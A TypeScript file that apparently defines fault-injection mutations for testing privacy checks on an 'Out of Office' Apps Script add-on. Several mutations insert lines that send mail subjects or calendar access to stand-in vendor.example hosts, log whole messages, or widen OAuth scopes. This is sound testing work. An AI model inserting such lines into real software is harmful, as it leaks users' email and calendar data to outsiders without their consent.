import type { Mutation } from '../mutation.ts'
import { outOfOfficePlaces } from './places.ts'

const { code, manifest } = outOfOfficePlaces
const asked = '      if (!isAskedFor({ from, subject, authentication }, settings)) continue;\n'
const whole =
  '      let whole = (_b = messages().get("me", id, { format: "full" }).payload) != null ? _b : {}'
const paged = '      zoneName = (_a = page.timeZone)'
const card = '.setBottomLabel(texts2.faults[fault])'
const event = '    let event = eventFor(step, zone.name);\n'
const scopes = '"oauthScopes": [\n'

const then = (line: string) => `${asked}      ${line}\n`

/** Faults in Out of Office. */
export const outOfOfficeMutations: readonly Mutation[] = [
  {
    name: 'log-the-subject',
    claim: 'C1',
    edits: [{ file: code, find: asked, replace: then('console.log(subject);') }],
  },
  {
    name: 'log-the-whole-mail',
    claim: 'C1',
    edits: [
      {
        file: code,
        find: asked,
        replace: then('Logger.log(JSON.stringify(messages().get("me", id, { format: "full" })));'),
      },
    ],
  },
  {
    name: 'log-the-events',
    claim: 'C1',
    edits: [{ file: code, find: paged, replace: `      console.info(page.items);\n${paged}` }],
  },
  {
    name: 'subject-in-properties',
    claim: 'C1',
    edits: [
      {
        file: code,
        find: asked,
        replace: then('PropertiesService.getUserProperties().setProperty("last", subject);'),
      },
    ],
  },
  {
    name: 'mail-in-the-cache',
    claim: 'C8',
    edits: [
      {
        file: code,
        find: asked,
        replace: then('CacheService.getUserCache().put(id, from + subject);'),
      },
    ],
  },
  {
    name: 'subject-in-the-script’s-properties',
    claim: 'C8',
    edits: [
      {
        file: code,
        find: asked,
        replace: then('PropertiesService.getScriptProperties().setProperty(id, subject);'),
      },
    ],
  },
  {
    name: 'leave-to-a-stranger',
    claim: 'C1',
    edits: [
      {
        file: code,
        find: asked,
        replace: then('MailApp.sendEmail("leave@vendor.example", "leave", subject);'),
      },
    ],
  },
  {
    name: 'mail-on-to-a-stranger',
    claim: 'C7',
    edits: [
      {
        file: code,
        find: asked,
        replace: then(
          'messages().send({ raw: Utilities.base64EncodeWebSafe("To: leave@vendor.example\\n\\n" + subject) }, "me");',
        ),
      },
    ],
  },
  {
    name: 'fetch-with-the-subject',
    claim: 'C7',
    edits: [
      {
        file: code,
        find: asked,
        replace: then(
          'UrlFetchApp.fetch("https://hr.vendor.example/", { method: "post", payload: subject });',
        ),
      },
    ],
  },
  {
    name: 'picture-of-the-subject',
    claim: 'C1',
    edits: [
      {
        file: code,
        find: card,
        replace: `${card}.setStartIcon(CardService.newIconImage().setIconUrl("https://img.vendor.example/?s=" + subject))`,
      },
    ],
  },
  {
    name: 'link-of-the-subject',
    claim: 'C1',
    edits: [
      {
        file: code,
        find: 'CardService.newOpenLink().setUrl(url)',
        replace: 'CardService.newOpenLink().setUrl("https://hr.vendor.example/" + subject)',
      },
    ],
  },
  {
    name: 'invite-a-stranger',
    claim: 'C7',
    edits: [
      {
        file: code,
        find: event,
        replace: `${event}    event.attendees = [{ email: "leave@vendor.example" }];\n`,
      },
    ],
  },
  {
    name: 'share-the-calendar',
    claim: 'C7',
    edits: [
      {
        file: code,
        find: event,
        replace: `${event}    Calendar.Acl.insert({ role: "reader", scope: { type: "user", value: "leave@vendor.example" } }, calendarId);\n`,
      },
    ],
  },
  {
    name: 'address-in-settings',
    claim: 'C1',
    edits: [
      {
        file: code,
        find: 'setProperty(key, storedSettings(settings))',
        replace:
          'setProperty(key, storedSettings({ ...settings, by: Session.getEffectiveUser().getEmail() }))',
      },
    ],
  },
  {
    name: 'scope-for-all-of-gmail',
    claim: 'C11',
    edits: [
      {
        file: manifest,
        find: 'https://www.googleapis.com/auth/gmail.readonly',
        replace: 'https://mail.google.com/',
      },
    ],
  },
  {
    name: 'scope-for-all-of-calendar',
    claim: 'C11',
    edits: [{ file: manifest, find: 'auth/calendar.events', replace: 'auth/calendar' }],
  },
  {
    name: 'scope-that-is-not-used',
    claim: 'C11',
    edits: [
      {
        file: manifest,
        find: scopes,
        replace: `${scopes}    "https://www.googleapis.com/auth/drive.readonly",\n`,
      },
    ],
  },
  {
    name: 'scope-to-send',
    claim: 'C14',
    edits: [
      {
        file: manifest,
        find: scopes,
        replace: `${scopes}    "https://www.googleapis.com/auth/gmail.send",\n`,
      },
    ],
  },
  {
    name: 'link-by-http',
    claim: 'C10',
    edits: [{ file: manifest, find: '"https://mail.google.com/"]', replace: '"http://mail.google.com/"]' }],
  },
  {
    name: 'exceptions-logged',
    claim: 'C14',
    edits: [{ file: manifest, find: '"NONE"', replace: '"STACKDRIVER"' }],
  },
  {
    name: 'weak-digest',
    claim: 'C11',
    edits: [
      {
        file: code,
        find: whole,
        replace: `      Utilities.computeDigest(Utilities.DigestAlgorithm.MD5, Session.getActiveUser().getEmail());\n${whole}`,
      },
    ],
  },
]
